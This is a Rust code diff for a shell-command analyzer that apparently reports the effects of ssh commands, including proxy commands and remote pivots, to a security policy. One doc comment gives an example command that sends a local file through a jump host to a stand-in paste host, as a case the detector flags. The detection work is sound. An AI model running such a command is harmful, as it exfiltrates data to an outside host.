@@ -1278,6 +1278,7 @@ impl Walker<'_> {
                 return self.wrapper(name, spec, args, st, stdin, subst_reads, dir);
             }
             ArgsRole::Git => return self.git(spec, args, st, stdin, dir),
+            ArgsRole::Ssh => return self.ssh(spec, args, st, stdin, subst_reads, dir),
             ArgsRole::Find => return self.find(args, st, stdin),
             ArgsRole::Dd => {
                 for a in args {
@@ -1502,27 +1503,8 @@ impl Walker<'_> {
                     });
                 }
             }
-            ArgsRole::Ssh => {
-                let mut it = pos.iter();
-                if let Some(h) = it.next() {
-                    let port = parsed
-                        .flags
-                        .iter()
-                        .find(|(f, _, _)| f == "-p")
-                        .and_then(|(_, _, v)| v.text.parse().ok())
-                        .or(Some(22));
-                    let host = Expanded {
-                        text: h.text.rsplit('@').next().unwrap_or(&h.text).to_owned(),
-                        ..h.clone()
-                    };
-                    data_from.extend(stdin.data());
-                    self.emit(ShellEffect::Connect {
-                        target: host_target(&host, port),
-                        sends: true,
-                        data_from,
-                    });
-                }
-            }
+            // Handled by `ssh` before the generic flag parse.
+            ArgsRole::Ssh => {}
             ArgsRole::RemoteCopy => {
                 let n = pos.len();
                 let last_remote = pos.last().and_then(|l| remote_spec(&l.text));
@@ -1801,6 +1783,128 @@ impl Walker<'_> {
                 _ => {}
             }
             i += 1;
+        }
+    }
+
+    /// `ssh [OPTS] HOST [COMMAND...]`: a connection that carries stdin, local commands
+    /// named in options (`-o ProxyCommand=`, `-o LocalCommand=`), and a remote command.
+    ///
+    /// The remote command runs on HOST, so its file effects are on HOST's file system and
+    /// are not reported as local ones; what it does that reaches beyond HOST — its
+    /// connections (a pivot), privilege changes, obfuscation, programs run, anything
+    /// unparseable — is reported, so policy sees `ssh jump 'curl -d @x paste.example'`.
+    #[allow(clippy::too_many_arguments)]
+    fn ssh(
+        &mut self,
+        spec: &ProgramSpec,
+        args: &[Expanded],
+        st: &mut State,
+        stdin: &Stdin,
+        subst_reads: &[ShellPath],
+        dir: Option<&ShellPath>,
+    ) {
+        let (parsed, consumed) = self.parse_args(spec, args, true);
+        let mut port = Some(22);
+        for (flag, role, v) in &parsed.flags {
+            match role {
+                FlagRole::Read => {
+                    let p = self.path_in(st, v, dir);
+                    self.emit(ShellEffect::Read(p));
+                }
+                FlagRole::Write => {
+                    let p = self.path_in(st, v, dir);
+                    self.emit(ShellEffect::Write(p));
+                }
+                _ if flag == "-p" => port = v.text.parse().ok().or(port),
+                _ if flag == "-o" => {
+                    let (key, value) = v
+                        .text
+                        .split_once(['=', ' ', '\t'])
+                        .map(|(k, v)| (k.trim(), v.trim()))
+                        .unwrap_or((v.text.as_str(), ""));
+                    let key = key.to_ascii_lowercase();
+                    if matches!(key.as_str(), "proxycommand" | "localcommand") {
+                        if v.dynamic {
+                            self.unparseable(format!(
+                                "ssh -o {key}=... runs a command that is only known at run time"
+                            ));
+                        } else if !value.is_empty() && value != "none" {
+                            let mut sub = st.clone();
+                            self.script(&value.to_owned(), &mut sub, &Stdin::Tty);
+                        }
+                    } else if key == "port" {
+                        port = value.parse().ok().or(port);
+                    }
+                }
+                _ => {}
+            }
+        }
+        let Some(h) = parsed.positional.first() else {
+            return;
+        };
+        let host = Expanded {
+            text: h.text.rsplit('@').next().unwrap_or(&h.text).to_owned(),
+            ..h.clone()
+        };
+        let mut data_from: Vec<ShellPath> = subst_reads.to_vec();
+        data_from.extend(stdin.data());
+        self.emit(ShellEffect::Connect {
+            target: host_target(&host, port),
+            sends: true,
+            data_from,
+        });
+        let remote = &args[consumed..];
+        if remote.is_empty() {
+            return;
+        }
+        if remote.iter().any(|a| a.dynamic) {
+            return self.unparseable("the ssh remote command is only known at run time");
+        }
+        // ssh joins its arguments with spaces and the remote shell parses the result.
+        let text = remote
+            .iter()
+            .map(|a| a.text.as_str())
+            .collect::<Vec<_>>()
+            .join(" ");
+        let mut far = Walker {
+            kb: self.kb,
+            options: self.options,
+            effects: Vec::new(),
+            seen: HashSet::new(),
+            depth: self.depth + 1,
+        };
+        let mut remote_st = State {
+            cwd: Cwd::Unknown,
+            vars: HashMap::new(),
+            functions: HashSet::new(),
+        };
+        far.script(&text, &mut remote_st, &Stdin::Tty);
+        // A remote's git remotes are configured on that host: unknown here.
+        let far_target = |t: NetTarget| match t {
+            NetTarget::GitRemote { name, .. } => NetTarget::Dynamic {
+                text: format!("git remote {name} on {}", host.text),
+            },
+            t => t,
+        };
+        for e in far.effects {
+            match e {
+                // Files named by the remote command are the remote host's, not ours.
+                ShellEffect::Read(_) | ShellEffect::Write(_) | ShellEffect::Delete(_) => {}
+                ShellEffect::Connect { target, sends, .. } => self.emit(ShellEffect::Connect {
+                    target: far_target(target),
+                    sends,
+                    data_from: Vec::new(),
+                }),
+                ShellEffect::Push { remote, .. } => self.emit(ShellEffect::Connect {
+                    target: far_target(remote.unwrap_or(NetTarget::GitRemote {
+                        name: "origin".into(),
+                        dir: None,
+                    })),
+                    sends: true,
+                    data_from: Vec::new(),
+                }),
+                other => self.emit(other),
+            }
         }
     }
 
